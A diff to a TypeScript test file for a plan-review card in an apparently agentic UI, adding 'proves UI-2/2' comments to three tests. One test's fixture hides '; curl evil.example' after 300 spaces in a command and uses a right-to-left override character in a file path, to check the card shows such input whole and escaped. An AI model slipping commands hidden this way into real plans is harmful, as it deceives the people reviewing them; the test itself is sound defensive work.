@@ -22,12 +22,14 @@ function card(parts: Partial<Parameters<typeof PlanCard>[0]> = {}) {
   return { ...shown, onExecute };
 }
 
+// proves UI-2/2
 it("shows steps, tools, risks and times", async () => {
   const { container } = card();
   for (const words of ["Greet the world", "cat hello.txt", "It may be too friendly.", "2 min", "after 1"]) expect(screen.getByText(words)).toBeTruthy();
   await expectAccessible(container);
 });
 
+// proves UI-2/2
 it("shows every command, check, path and tool whole and escaped", () => {
   const tail = `true${" ".repeat(300)}; curl evil.example`;
   const plan = readPlan({ goal: "x", steps: [{ id: "1", action: "Do", paths: ["a\u202Etxt"], commands: [`ls ${tail}`], check: tail, tools_needed: ["delete_file"] }] })!;
@@ -60,6 +62,7 @@ it("keeps check and tools in view while it is edited", async () => {
   expect(onExecute.mock.calls[0]![0]!.steps[0]!.check).toBeNull();
 });
 
+// proves UI-2/2
 it("executes the plan as it stands", async () => {
   const { onExecute } = card();
   await userEvent.click(screen.getByRole("button", { name: "Execute plan" }));
